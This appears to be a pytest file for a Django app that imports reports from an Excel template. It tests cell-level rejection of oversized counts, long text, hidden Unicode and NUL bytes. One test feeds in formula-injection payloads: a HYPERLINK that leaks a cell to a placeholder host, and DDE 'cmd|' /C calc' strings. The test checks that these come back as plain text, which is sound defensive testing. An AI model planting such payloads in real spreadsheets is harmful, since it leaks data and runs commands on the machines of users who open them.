"""A unit's template fed what it must refuse or keep as typed (issue 8: A10, A13, A14): counts past their bound,
scores past their points, formula-like and hidden-character text, a NUL byte; every bad cell named, nothing saved."""

import pytest
from django.urls import reverse

from core.spreadsheets import BROKEN_XLSX
from emulation.models import ImportJob
from emulation.reports import services
from emulation.tests.test_excel_support import (
    BAD_COUNTS,
    TOO_BIG,
    entry,
    failed_errors,
    march_report_vp,
    patched_xlsx,
    saved_state,
    upload,
    workbook_bytes,
)
from emulation.tests.test_excel_template import (
    DEN,
    GOOD_ONE_STOP,
    NUM,
    ONE_STOP,
    SCORE,
    SHEET,
    VALUE,
    WHY,
    _download,
    _fill_one_stop,
    _rows,
    _upload,
)


@pytest.fixture
def report(campaign, alice):
    return march_report_vp(campaign, alice)


@pytest.mark.parametrize("value, message", list(BAD_COUNTS.values()), ids=list(BAD_COUNTS))
def test_a_count_out_of_bounds_is_refused_at_its_cell_and_nothing_is_saved(
    client, alice, report, value, message, django_capture_on_commit_callbacks
):
    services.report_save_figures(report=report, actor=alice, entries={"1.5c": {"value": 7}})
    before = saved_state()
    workbook = _download(client, alice, report)
    sheet, rows = workbook[SHEET], _rows(workbook[SHEET])
    sheet[f"{VALUE}{rows['1.5c']}"] = value
    sheet[f"{NUM}{rows['1.2a']}"], sheet[f"{DEN}{rows['1.2a']}"] = 1, value  # a denominator, too
    sheet[f"{NUM}{rows['1.4a']}"] = 3  # a good row beside them is not saved either

    _, job = _upload(client, alice, report, workbook, django_capture_on_commit_callbacks)

    errors = failed_errors(job)
    assert errors[(SHEET, rows["1.5c"], "H (Giá trị)")] == message
    assert errors[(SHEET, rows["1.2a"], "G (Mẫu số)")] == message
    assert job.summary == f"Có {len(errors)} lỗi; không lưu gì."
    assert saved_state() == before


def test_oversized_one_stop_counts_and_scores_are_refused_and_nothing_is_saved(
    client, alice, report, django_capture_on_commit_callbacks
):
    before = saved_state()
    workbook = _download(client, alice, report)
    sheet, rows = workbook[SHEET], _rows(workbook[SHEET])
    _fill_one_stop(workbook, [10**13, *GOOD_ONE_STOP[1:]])
    workbook[ONE_STOP]["B3"] = 2**63
    sheet[f"{SCORE}{rows['1.1']}"] = 10**30

    _, job = _upload(client, alice, report, workbook, django_capture_on_commit_callbacks)

    errors = failed_errors(job)
    assert errors[(ONE_STOP, 2, "B (Số hồ sơ)")] == TOO_BIG
    assert errors[(ONE_STOP, 3, "B (Số hồ sơ)")] == TOO_BIG
    assert errors[(SHEET, rows["1.1"], "I (Điểm tự chấm)")].startswith("Quá lớn")
    assert saved_state() == before
    report.refresh_from_db()
    assert report.received is None


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://x?leak="&B3,"bấm")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ],
    ids=["equals", "plus", "minus", "at"],
)
def test_an_explanation_that_looks_like_a_formula_comes_back_as_text(client, alice, sam, report, typed):
    # A13: the unit head typed it in the form; the secretariat downloads the template.
    services.report_save_figures(report=report, actor=alice, entries={"1.1": {"self_score": "8", "explanation": typed}})
    workbook = _download(client, sam, report)
    sheet = workbook[SHEET]
    cell = sheet[f"{WHY}{_rows(sheet)['1.1']}"]
    assert cell.data_type == "s" and cell.value == typed
    assert cell.quotePrefix  # Excel shows it as text and does not run it when the cell is edited either


def test_a_formula_like_explanation_survives_a_round_trip_as_text(
    client, alice, report, django_capture_on_commit_callbacks
):
    typed = '=HYPERLINK("http://x?leak="&B3,"bấm")'
    services.report_save_figures(report=report, actor=alice, entries={"1.1": {"self_score": "8", "explanation": typed}})
    workbook = _download(client, alice, report)
    _, job = _upload(client, alice, report, workbook, django_capture_on_commit_callbacks)
    job.refresh_from_db()
    assert job.status == ImportJob.Status.DONE, job.errors
    assert entry(report, "1.1").explanation == typed


def test_an_explanation_over_five_thousand_characters_is_refused_at_its_cell(
    client, alice, report, django_capture_on_commit_callbacks
):
    before = saved_state()
    workbook = _download(client, alice, report)
    sheet, rows = workbook[SHEET], _rows(workbook[SHEET])
    sheet[f"{SCORE}{rows['1.1']}"], sheet[f"{WHY}{rows['1.1']}"] = 8, "x" * 5001

    _, job = _upload(client, alice, report, workbook, django_capture_on_commit_callbacks)

    assert failed_errors(job) == {
        (SHEET, rows["1.1"], "J (Giải trình)"): "Giải trình dài 5.001 ký tự, vượt giới hạn 5.000 ký tự."
    }
    assert saved_state() == before

    sheet[f"{WHY}{rows['1.1']}"] = "x" * 5000  # the bound itself is taken
    _, job = _upload(client, alice, report, workbook, django_capture_on_commit_callbacks)
    job.refresh_from_db()
    assert job.status == ImportJob.Status.DONE, job.errors
    assert len(entry(report, "1.1").explanation) == 5000


def test_an_explanation_is_stored_in_nfc_without_hidden_characters(
    client, alice, report, django_capture_on_commit_callbacks
):
    workbook = _download(client, alice, report)
    sheet, rows = workbook[SHEET], _rows(workbook[SHEET])
    # Decomposed "ế" (e + circumflex + acute), a right-to-left override, a zero-width space, a C1 control.
    typed = "Sa\u0301ng kie\u0302\u0301n\u202e so\u0302\u0301\u200b ho\u0301a\x85 quy tri\u0300nh"
    sheet[f"{SCORE}{rows['1.1']}"], sheet[f"{WHY}{rows['1.1']}"] = 8, typed

    _, job = _upload(client, alice, report, workbook, django_capture_on_commit_callbacks)

    job.refresh_from_db()
    assert job.status == ImportJob.Status.DONE, job.errors
    assert entry(report, "1.1").explanation == "Sáng kiến số hóa quy trình"


def test_a_nul_byte_in_a_cell_is_refused_before_anything_reaches_the_database(
    client, alice, report, django_capture_on_commit_callbacks
):
    before = saved_state()
    workbook = _download(client, alice, report)
    sheet, rows = workbook[SHEET], _rows(workbook[SHEET])
    sheet[f"{SCORE}{rows['1.1']}"], sheet[f"{WHY}{rows['1.1']}"] = 8, "MARKER"
    data = patched_xlsx(workbook_bytes(workbook), "MARKER", b"a\x00b")
    client.force_login(alice)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("emulation:report-excel-upload", args=[report.pk]), {"file": upload(data)})
    job = ImportJob.objects.get()
    assert failed_errors(job) == {("", None, ""): BROKEN_XLSX}
    assert saved_state() == before
